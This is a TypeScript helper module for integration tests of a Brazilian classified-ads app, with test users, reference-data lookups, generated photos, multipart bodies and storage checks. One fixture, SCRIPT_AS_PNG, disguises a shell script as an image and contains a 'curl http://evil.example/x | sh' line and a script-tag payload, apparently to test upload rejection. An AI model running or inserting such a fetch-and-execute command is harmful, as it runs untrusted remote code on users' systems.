/**
 * What the ad-publishing integration tests share: users with a session (rows written directly, no
 * password hashing), the seeded reference data by name, photos made with sharp (never committed
 * binaries), multipart bodies, and a look at the stored originals in DATA_DIR/uploads.
 * Imports the app's database: a test file that sets its environment first must import this after.
 */
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { and, eq } from "drizzle-orm";
import sharp from "sharp";
import { db } from "~/db/client.server";
import { adDrafts, adImages, ads, aiUsage, categories, cities, subcategories, users } from "~/db/schema";
import { addDaysToKey, todayKey } from "~/lib/dates";
import { adPath } from "~/models/ad/ad";
import { createSession } from "~/models/session/session.server";
import { sessionCookie } from "~/web/auth.server";

export const ORIGIN = "http://localhost";

export type TestUser = { id: number; email: string; token: string; cookie: string; isAdmin: boolean };

export async function createUser({ name = "Ana Anunciante", isAdmin = false } = {}): Promise<TestUser> {
  const tag = randomBytes(5).toString("hex");
  const email = `anunciante.${tag}@exemplo.com.br`;
  const row = db.insert(users).values({ username: `anunciante_${tag}`, email, fullName: name, provider: "local", isAdmin }).returning().get();
  const session = createSession(row.id, { persistent: false });
  const cookie = (await sessionCookie.serialize(session.token)).split(";")[0]!;
  return { id: row.id, email, token: session.token, cookie, isAdmin };
}

/** Headers of a bearer-authenticated API client. */
export const bearer = (user: TestUser) => ({ Authorization: `Bearer ${user.token}` });
/** Headers of the browser: its session cookie, and the Origin a same-site form post carries. */
export const browser = (user: TestUser) => ({ Cookie: user.cookie, Origin: ORIGIN });

export function cityId(name = "Patos de Minas") {
  return db.select({ id: cities.id }).from(cities).where(eq(cities.name, name)).get()!.id;
}

export function categoryId(name: string) {
  return db.select({ id: categories.id }).from(categories).where(eq(categories.name, name)).get()!.id;
}

export function subcategoryId(categoryName: string, name: string) {
  return db
    .select({ id: subcategories.id })
    .from(subcategories)
    .where(and(eq(subcategories.categoryId, categoryId(categoryName)), eq(subcategories.name, name)))
    .get()!.id;
}

/** A São Paulo day `days` after today, as the date input sends it. */
export const inDays = (days: number) => addDaysToKey(todayKey(), days);

export const adRow = (id: number) => db.select().from(ads).where(eq(ads.id, id)).get();

/** The ad page's canonical address (/anuncio/{id}-{slug}) and the route params the router gives it: other spellings answer 301. */
export function adPageAt(id: number | string) {
  const row = adRow(Number(id));
  const path = row ? adPath(row) : `/anuncio/${id}`;
  return { path, params: { id: path.slice("/anuncio/".length) } };
}
export const adsOf = (userId: number) => db.select().from(ads).where(eq(ads.userId, userId)).all();
export const imagesOf = (adId: number) => db.select().from(adImages).where(eq(adImages.adId, adId)).orderBy(adImages.order).all();
export const draftOf = (userId: number) => db.select().from(adDrafts).where(eq(adDrafts.userId, userId)).get();
export const usageRowOf = (userId: number) => db.select().from(aiUsage).where(eq(aiUsage.userId, userId)).all();

// ------------------------------------------------------------------------------------------------
// Photos
// ------------------------------------------------------------------------------------------------

/**
 * A camera-like JPEG: `width`×`height` pixels as stored in the file, a red block in the stored top-left
 * corner, the given EXIF orientation and personal EXIF fields (artist, camera serial) to be stripped.
 */
export async function cameraJpeg({ width = 3000, height = 2000, orientation = 1, quality = 80 } = {}): Promise<Buffer> {
  const block = await sharp({ create: { width: Math.round(width / 4), height: Math.round(height / 4), channels: 3, background: "#ff0000" } })
    .png()
    .toBuffer();
  return sharp({ create: { width, height, channels: 3, background: "#1d4ed8" } })
    .composite([{ input: block, left: 0, top: 0 }])
    .jpeg({ quality })
    .withExif({ IFD0: { Artist: "Fulano de Tal", Copyright: "segredo", Make: "FakeCam", Model: "X100" } })
    .withMetadata({ orientation })
    .toBuffer();
}

export function smallPng(width = 64, height = 48, color = "#10b981"): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: color } }).png().toBuffer();
}

/** Random pixels: JPEG cannot compress them, so the file is about `bytes` long. */
export async function noisyJpegOfAtLeast(bytes: number): Promise<Buffer> {
  for (let side = Math.ceil(Math.sqrt(bytes / 1.3)); ; side = Math.ceil(side * 1.1)) {
    const raw = randomBytes(side * side * 3);
    const out = await sharp(raw, { raw: { width: side, height: side, channels: 3 } }).jpeg({ quality: 100 }).toBuffer();
    if (out.length >= bytes) return out;
  }
}

/** A shell script dressed as a photo. */
export const SCRIPT_AS_PNG = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(1)</script>\n");

export type Upload = { field: string; name: string; type: string; bytes: Uint8Array };
export const upload = (bytes: Uint8Array, { field = "images", name = "foto.jpg", type = "image/jpeg" } = {}): Upload => ({ field, name, type, bytes });

/** A multipart body: string fields (repeated for arrays) and files. */
export function multipart(fields: Record<string, string | string[] | undefined>, files: Upload[] = []): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) {
    if (value === undefined) continue;
    for (const item of Array.isArray(value) ? value : [value]) form.append(name, item);
  }
  for (const file of files) form.append(file.field, new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  return form;
}

/** A url-encoded form body, as a browser without JavaScript posts a form without files. */
export function urlencoded(fields: Record<string, string | string[] | undefined>): URLSearchParams {
  const body = new URLSearchParams();
  for (const [name, value] of Object.entries(fields)) {
    if (value === undefined) continue;
    for (const item of Array.isArray(value) ? value : [value]) body.append(name, item);
  }
  return body;
}

// ------------------------------------------------------------------------------------------------
// Storage
// ------------------------------------------------------------------------------------------------

/** The public ids of every stored original (fs-lite driver: DATA_DIR/uploads/originals/{publicId}). */
export function storedOriginals(): Set<string> {
  const dir = path.join(process.env.DATA_DIR!, "uploads", "originals");
  return new Set(fs.existsSync(dir) ? fs.readdirSync(dir) : []);
}

export function storedOriginalBytes(publicId: string): Buffer {
  return fs.readFileSync(path.join(process.env.DATA_DIR!, "uploads", "originals", publicId));
}

/** Originals stored since `before`. */
export function newOriginals(before: Set<string>): string[] {
  return [...storedOriginals()].filter((id) => !before.has(id));
}

/** A complete, valid ad for the Veículos › Carros category, field by field as the spec's client sends it. */
export function carFields(overrides: Record<string, string | undefined> = {}): Record<string, string | undefined> {
  return {
    adType: "Vender",
    idCity: String(cityId("Patos de Minas")),
    categoryId: String(categoryId("Veículos")),
    subcategoryId: String(subcategoryId("Veículos", "Carros")),
    title: "Fiat Strada 2019 cabine dupla",
    expirationDate: inDays(5),
    price: "R$ 78.500,00",
    whatsapp: "34999887766",
    description: "Fiat Strada Freedom 1.3 2019, revisada, pneus novos, documentação em dia.",
    characteristics: JSON.stringify({ marca: "Fiat", ano: "2019", quilometragem: "85.000", unicoDono: "sim", Garantia: "3 meses de motor" }),
    ...overrides,
  };
}
